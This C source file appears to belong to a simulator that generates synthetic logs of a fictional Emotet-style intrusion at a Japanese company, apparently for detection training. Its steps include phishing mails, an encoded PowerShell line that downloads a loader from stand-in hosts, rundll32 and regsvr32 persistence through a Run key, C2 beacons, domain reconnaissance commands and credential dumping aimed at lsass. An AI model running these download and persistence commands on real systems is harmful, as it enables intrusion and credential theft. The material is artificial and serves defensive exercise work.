/* incident.c - how it gets in: a wave of mails, four opened documents, one infected machine.
 *
 * The shape is Emotet's of 2020: encrypted archive by mail, document, WMI, encoded PowerShell with
 * a list of compromised sites, a library run by rundll32 and again by regsvr32 from AppData, a Run
 * key, POST requests whose Referer is their own address. Nothing here could run: the encoded script
 * is one comment. */
#include "example.h"

#include "base/enc.h"

#include <stdio.h>

#define LOADER_SHA256 "5e1f0c7a3bd94826a1d07cc2f4e86b19d35a70fe8c12b6477f90ad3e61c85b24"
#define C2_PROXIED    "198.51.100.23"
#define C2_DIRECT     "203.0.113.77"

static const char script[] =
        "# inert text of the example incident: "
        "$u='http://hana-sato.example/wp-includes/Rk2/@http://kissaten-aoi.example/wp-content/"
        "Xq3nb8k/@http://yamabiko-cycle.example/cgi-bin/z7/'.Split('@');"
        "foreach($i in $u){(New-Object Net.WebClient).DownloadFile($i,$f)}";

/* One of the four who opened the document. */
struct victim {
    const char *login;
    hn_time opened;
    bool blocked;     /* the proxy stopped the loader */
    bool quarantined; /* Defender took the library away */
    const char *library;
};

/* ---- The wave of mails -------------------------------------------------------------------------
 */

static void send_wave(struct world *world)
{
    static const struct {
        const char *from;
        const char *to;
        const char *subject;
        int minute;
    } wave[] = {
        { "accounting@yamabiko-cycle.example", "h.kobayashi", "Re: 見積書の件", 52 },
        { "tencho@hana-sato.example", "y.nakamura", "請求書送付のお願い", 53 },
        { "soumu@minato-kogyo.example", "m.sato", "Re: 打合せ日程について", 53 },
        { "soumu@minato-kogyo.example", "k.ogawa", "Re: 材質変更のご相談", 54 },
        { "eigyo@sakura-shoji.example", "t.maeda", "ご入金額の通知", 55 },
        { "eigyo@sakura-shoji.example", "n.abe", "会議への招待", 57 },
    };
    struct mail mail = { .direction = "inbound",
        .file = "20261014_見積書.zip",
        .type = "application/zip",
        .reason = "attachment is encrypted, not scanned" };
    char to[64];

    for (size_t i = 0; i < HN_COUNT_OF(wave); i++) {
        (void)snprintf(to, sizeof to, "%s@hinomi-works.example", wave[i].to);
        mail.time = at(8, wave[i].minute, 7 * (int)i);
        mail.from = wave[i].from;
        mail.to = to;
        mail.subject = wave[i].subject;
        mail.size = 91233 + 17 * (uint32_t)i;
        mail_line(world, &mail);
    }
    mail.time = at(9, 4, 30);
    mail.from = "info@sakura-shoji.example";
    mail.to = "f.fujita@hinomi-works.example";
    mail.subject = "請求書_2026-10-14";
    mail.file = "請求書_2026-10-14.doc";
    mail.type = "application/msword";
    mail.size = 180224;
    mail.reason = NULL;
    mail_line(world, &mail);
}

/* ---- A document is opened ----------------------------------------------------------------------
 */

/* "powershell -w hidden -en <Base64 of UTF-16>" into text. */
static void encoded_command(struct hn_buf *text)
{
    uint8_t wide[2 * sizeof script] = { 0 };

    for (size_t i = 0; i + 1 < sizeof script; i++)
        wide[2 * i] = (uint8_t)script[i];
    hn_buf_add_lit(text, "powershell -w hidden -en ");
    hn_base64_encode(text, hn_bytes_of(wide, 2 * (sizeof script - 1)));
    hn_buf_add_char(text, '\0');
}

static struct process open_document(struct world *world, const struct victim *victim)
{
    const struct person *person = person_of(victim->login);
    struct machine *machine = machine_of(world, person);
    struct process explorer =
            process_old(machine, person, PROGRAM_EXPLORER, "C:\\Windows\\Explorer.EXE");
    struct process archive = process_start(world, victim->opened, &explorer, PROGRAM_7ZIP,
            "\"%s\" \"C:\\Users\\%s\\Downloads\\20261014_見積書.zip\"", program_image(PROGRAM_7ZIP),
            person->login);

    process_writes(world, after(victim->opened, 21000), &archive,
            "C:\\Users\\%s\\Downloads\\20261014_見積書.doc", person->login);
    return process_start(world, after(victim->opened, 40000), &explorer, PROGRAM_WORD,
            "\"%s\" /n \"C:\\Users\\%s\\Downloads\\20261014_見積書.doc\"",
            program_image(PROGRAM_WORD), person->login);
}

static struct process run_script(
        struct world *world, const struct victim *victim, const struct process *word)
{
    struct process wmi = process_old(
            word->machine, NULL, PROGRAM_WMIPRVSE, "C:\\Windows\\system32\\wbem\\wmiprvse.exe");
    struct process shell;
    struct hn_buf command = { 0 };
    hn_time time = after(victim->opened, 52000);

    encoded_command(&command);
    process_loads(world, time, word, "C:\\Windows\\System32\\wbem\\wbemdisp.dll", NULL);
    wmi.acts_for = word->person;
    if (!hn_buf_ok(&command))
        world->failed = true;
    shell = process_start(world, after(time, 900), &wmi, PROGRAM_POWERSHELL, "%s",
            hn_buf_ok(&command) ? command.ptr : "");
    hn_buf_deinit(&command);
    return shell;
}

/* The three sites of the list: dead, serving, cleaned. The proxy's scanner knows the file from the
 * third time on. */
static void fetch_loader(
        struct world *world, const struct victim *victim, const struct process *shell)
{
    hn_time time = after(shell->start, 2100);
    struct request request = { .time = time,
        .machine = shell->machine,
        .person = shell->person,
        .site = &sites[SITE_FLOWERS],
        .ip = sites[SITE_FLOWERS].ip,
        .scheme = "http",
        .method = "GET",
        .path = "/wp-includes/Rk2/",
        .type = "text/html",
        .status = 404,
        .filter = "OBSERVED",
        .received = 1204,
        .sent = 96 };

    process_asks(world, time, shell, sites[SITE_FLOWERS].host, sites[SITE_FLOWERS].ip);
    proxy_line(world, &request);
    request.time = after(time, 1700);
    request.site = &sites[SITE_CAFE];
    request.ip = sites[SITE_CAFE].ip;
    request.path = "/wp-content/Xq3nb8k/";
    request.type = "application/octet-stream";
    request.status = victim->blocked ? 403 : 200;
    request.filter = victim->blocked ? "DENIED" : "OBSERVED";
    request.received = victim->blocked ? 3120 : 497215;
    process_asks(world, after(time, 1600), shell, sites[SITE_CAFE].host, sites[SITE_CAFE].ip);
    proxy_line(world, &request);
    if (!victim->blocked)
        return;
    request.time = after(time, 2900);
    request.site = &sites[SITE_CYCLE];
    request.ip = sites[SITE_CYCLE].ip;
    request.path = "/cgi-bin/z7/";
    request.type = "text/html";
    request.status = 404;
    request.filter = "OBSERVED";
    request.received = 980;
    proxy_line(world, &request);
}

static struct process start_loader(
        struct world *world, const struct victim *victim, const struct process *shell)
{
    hn_time time = after(shell->start, 6400);
    struct process loader;

    process_writes(world, time, shell, "%s", victim->library);
    loader = process_start(world, after(time, 1900), shell, PROGRAM_RUNDLL32,
            "\"C:\\Windows\\system32\\rundll32.exe\" %s,Control_RunDLL", victim->library);
    process_loads(world, after(time, 1960), &loader, victim->library, LOADER_SHA256);
    return loader;
}

static void quarantine(
        struct world *world, const struct victim *victim, const struct process *loader)
{
    defender_found(world, after(loader->start, 700), loader, "Trojan:Win32/Emotet.AQ!MTB",
            victim->library);
    defender_removed(world, after(loader->start, 4200), loader, "Trojan:Win32/Emotet.AQ!MTB",
            victim->library);
    process_end(world, after(loader->start, 4300), loader);
}

/* Copies itself, runs again by regsvr32, and is started with each logon from now on. */
static void settle(struct world *world, const struct process *loader)
{
    static const char library[] = "C:\\Users\\h.kobayashi\\AppData\\Local\\Qvnwlhfgz\\kzbtrq.dll";
    struct process resident;

    process_writes(world, after(loader->start, 9000), loader, "%s", library);
    resident = process_start(world, after(loader->start, 11000), loader, PROGRAM_REGSVR32,
            "C:\\Windows\\system32\\regsvr32.exe /s \"%s\"", library);
    process_loads(world, after(resident.start, 90), &resident, library, LOADER_SHA256);
    process_sets_value(world, after(resident.start, 4100), &resident,
            "HKU\\S-1-5-21-1417-2001-3006-1117\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\"
            "kzbtrq.dll",
            "C:\\Windows\\system32\\regsvr32.exe \"C:\\Users\\h.kobayashi\\AppData\\Local\\"
            "Qvnwlhfgz\\kzbtrq.dll\"");
}

/* The infected process itself, for what follows. */
static struct process resident_of(struct world *world)
{
    const struct person *person = person_of("h.kobayashi");
    struct process process = process_old(machine_of(world, person), person, PROGRAM_REGSVR32,
            "C:\\Windows\\system32\\regsvr32.exe /s \"C:\\Users\\h.kobayashi\\AppData\\Local\\"
            "Qvnwlhfgz\\kzbtrq.dll\"");

    process.pid = 7316;
    process.start = at(9, 42, 29);
    return process;
}

void incident_arrival(struct world *world)
{
    const struct victim victims[] = {
        { "y.nakamura", at(9, 37, 2), false, true,
                "C:\\Users\\y.nakamura\\Mv7hc2p\\Ud91kxa\\R30t.dll" },
        { "h.kobayashi", at(9, 41, 15), false, false,
                "C:\\Users\\h.kobayashi\\Xq3nb8k\\Tz7w1x2\\P58u.dll" },
        { "k.ogawa", at(9, 58, 40), false, true, "C:\\Users\\k.ogawa\\Pb4ye0d\\Hh2cq7n\\W11z.dll" },
        { "m.sato", at(10, 26, 19), true, false, NULL },
    };

    send_wave(world);
    for (size_t i = 0; i < HN_COUNT_OF(victims); i++) {
        struct process word = open_document(world, &victims[i]);
        struct process shell = run_script(world, &victims[i], &word);
        struct process loader;

        fetch_loader(world, &victims[i], &shell);
        if (victims[i].blocked)
            continue;
        loader = start_loader(world, &victims[i], &shell);
        if (victims[i].quarantined)
            quarantine(world, &victims[i], &loader);
        else
            settle(world, &loader);
    }
}

/* ---- Command and control -----------------------------------------------------------------------
 */

/* Every quarter of an hour or so, until the machine is taken off the network at 13:20. */
static void report_home(struct world *world, const struct process *resident)
{
    static const char url[] = "http://" C2_PROXIED ":8080/tzQ8a/Lw0f9x/b2Kq/";
    struct chance chance = chance_of("beacon", 0);
    struct request request = { .machine = resident->machine,
        .person = resident->person,
        .ip = C2_PROXIED,
        .port = 8080,
        .scheme = "http",
        .method = "POST",
        .path = "/tzQ8a/Lw0f9x/b2Kq/",
        .referer = url,
        .agent = "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; WOW64; Trident/7.0)",
        .type = "text/html",
        .status = 200,
        .filter = "OBSERVED" };
    hn_time time = at(9, 43, 31);

    while (time < at(13, 20, 0)) {
        request.time = time;
        request.sent = chance_between(&chance, 4100, 5200);
        request.received = chance_between(&chance, 900, 2100);
        process_connects(world, time, resident, "10.10.0.8", 8080);
        proxy_line(world, &request);
        time = after(time, chance_between(&chance, 840000, 960000));
    }
}

/* One module does not know of the proxy: refused at first, then on a port that an old policy lets
 * through. The sensor sees the request. */
static void try_directly(struct world *world, const struct process *resident)
{
    struct flow flow = { .src = resident->machine->ip,
        .src_side = "lan",
        .dst = C2_DIRECT,
        .dst_port = 443,
        .dst_side = "wan1",
        .action = "deny",
        .policy = 0,
        .sent = 52 };
    struct ips_alert alert = { .time = at(10, 5, 3),
        .src = resident->machine->ip,
        .src_port = 51702,
        .dst = C2_DIRECT,
        .dst_port = 8080,
        .signature_id = 9000001,
        .signature = "LOCAL MALWARE Emotet-like POST to bare address",
        .category = "A Network Trojan was detected",
        .severity = 1 };

    for (int i = 0; i < 4; i++) {
        flow.time = at(10, 4, 9 * i);
        flow.src_port = 51690 + i;
        process_connects(world, flow.time, resident, C2_DIRECT, 443);
        firewall_line(world, &flow);
    }
    ips_alert_line(world, &alert);
    process_connects(world, at(10, 5, 2), resident, C2_DIRECT, 8080);
    flow.time = at(10, 5, 41);
    flow.src_port = 51702;
    flow.dst_port = 8080;
    flow.action = "close";
    flow.policy = 14;
    flow.sent = 48212;
    flow.received = 311870;
    flow.seconds = 38;
    firewall_line(world, &flow);
}

/* ---- Looking around ----------------------------------------------------------------------------
 */

static void look_around(struct world *world, const struct process *resident)
{
    static const struct {
        enum program program;
        const char *command;
    } commands[] = {
        { PROGRAM_SYSTEMINFO, "systeminfo" },
        { PROGRAM_IPCONFIG, "ipconfig /all" },
        { PROGRAM_WHOAMI, "whoami /all" },
        { PROGRAM_NET, "net view /all" },
        { PROGRAM_NLTEST, "nltest /domain_trusts /all_trusts" },
        { PROGRAM_NET, "net group \"Domain Admins\" /domain" },
        { PROGRAM_ARP, "arp -a" },
    };

    for (size_t i = 0; i < HN_COUNT_OF(commands); i++)
        (void)process_start(world, at(10, 20, 4 + 9 * (int)i), resident, commands[i].program, "%s",
                commands[i].command);
}

static void take_passwords(struct world *world, const struct process *resident)
{
    struct process viewer;

    process_writes(world, at(10, 31, 2), resident, "%s", program_image(PROGRAM_VIEWER));
    viewer = process_start(world, at(10, 31, 4), resident, PROGRAM_VIEWER,
            "%s /scomma \"C:\\Users\\h.kobayashi\\AppData\\Local\\Temp\\A3F1.tmp\"",
            program_image(PROGRAM_VIEWER));
    process_end(world, at(10, 31, 6), &viewer);
}

/* The follow-up tool: an emptied rundll32, a pipe, a thread in explorer.exe, then lsass. */
static void hand_over(struct world *world, const struct process *resident)
{
    struct process shell = process_start(world, at(10, 58, 12), resident, PROGRAM_RUNDLL32,
            "C:\\Windows\\System32\\rundll32.exe");
    struct process explorer = process_old(
            resident->machine, resident->person, PROGRAM_EXPLORER, "C:\\Windows\\Explorer.EXE");

    process_makes_pipe(world, at(10, 58, 13), &shell, "\\MSSE-4213-server");
    process_injects(world, at(10, 59, 40), &shell, &explorer);
    process_opens_lsass(world, at(11, 20, 33), &shell, "0x1010",
            "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
            "UNKNOWN(0000021E7C3A1B40)");
}

void incident_foothold(struct world *world)
{
    struct process resident = resident_of(world);

    report_home(world, &resident);
    try_directly(world, &resident);
    look_around(world, &resident);
    take_passwords(world, &resident);
    hand_over(world, &resident);
}
